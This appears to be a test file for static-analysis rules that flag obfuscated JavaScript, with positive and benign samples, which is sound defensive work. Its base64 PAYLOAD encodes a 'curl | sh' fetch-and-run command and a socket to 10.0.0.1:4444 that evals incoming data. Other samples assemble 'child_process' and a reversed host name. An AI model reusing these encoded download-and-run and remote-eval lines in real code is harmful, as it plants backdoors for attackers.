// ruleid: js-long-base64-blob
const PAYLOAD = "cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1cmwgLXMgaHR0cDovL3guZXhhbXBsZS9zIHwgc2gnKTsgY29uc3QgbmV0ID0gcmVxdWlyZSgnbmV0Jyk7IGNvbnN0IHMgPSBuZXQuY29ubmVjdCg0NDQ0LCAnMTAuMC4wLjEnKTsgcy5vbignZGF0YScsIGQgPT4gZXZhbChkLnRvU3RyaW5nKCkpKTsgcmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1cmwgLXMgaHR0cDovL3guZXhhbXBsZS9zIHwgc2gnKTsgY29uc3QgbmV0ID0gcmVxdWlyZSgnbmV0Jyk7IGNvbnN0IHMgPSBuZXQuY29ubmVjdCg0NDQ0LCAnMTAuMC4wLjEnKTsgcy5vbignZGF0YScsIGQgPT4gZXZhbChkLnRvU3RyaW5nKCkpKTsg";
// ruleid: js-long-hex-blob
const HEXED = "726571756972652827636867265717569726528276368672657175697265282763686726571756972652827636867265717569726528276368672657175697265282763686726571756972652827636867265717569726528276368672657175697265282763686726571756972652827636867265717569";
// ruleid: js-char-code-assembly
const ESC = "\x72\x65\x71\x75\x69\x72\x65\x28\x27\x63\x68\x69\x6c\x64\x5f\x70\x72\x6f\x63\x65\x73\x73\x27\x29";

// ruleid: js-packed
eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--){d[c]=k[c]||c}k=[function(e){return d[e]}];e=function(){return'\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\b'+e(c)+'\\b','g'),k[c])}}return p}('0 1=2;',3,3,'var|x|1'.split('|'),0,{}));

// ruleid: js-obfuscator-io
var _0x4f2a = ["\x65\x78\x65\x63", "child_process"];
// ruleid: js-obfuscator-io
function _0x1b3c(_0x2d4e, _0x3f5a) { return _0x4f2a[_0x2d4e - 0x0]; }

function names(codes) {
  // ruleid: js-char-code-assembly
  const mod = String.fromCharCode(99, 104, 105, 108, 100, 95, 112, 114, 111, 99);
  // ruleid: js-char-code-assembly
  const m2 = String.fromCharCode.apply(null, codes);
  // ruleid: js-char-code-assembly
  const host = "moc.elpmaxe.kcab".split("").reverse().join("");
  // ruleid: js-char-code-assembly
  const m3 = codes.map((c) => String.fromCharCode(c ^ 7)).join("");
  return [mod, m2, host, m3];
}

// ok: js-long-hex-blob
const DIGEST = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
// ok: js-long-base64-blob
const PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";
// ok: js-long-base64-blob
const LOREM = "Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor incididunt ut labore et dolore magna aliqua. Ut enim ad minim veniam, quis nostrud exercitation ullamco laboris nisi ut aliquip ex ea commodo consequat. Duis aute irure dolor in reprehenderit in voluptate velit esse cillum dolore.";

function benign(text, i) {
  // ok: js-char-code-assembly
  const letter = String.fromCharCode(65 + i);
  // ok: js-char-code-assembly
  const rev = text.split("").reverse().join("");
  // ok: js-packed, js-obfuscator-io
  const total = [1, 2, 3].reduce((a, b) => a + b, 0);
  // ok: js-char-code-assembly
  const nl = "\n\t";
  return [letter, rev, total, nl];
}
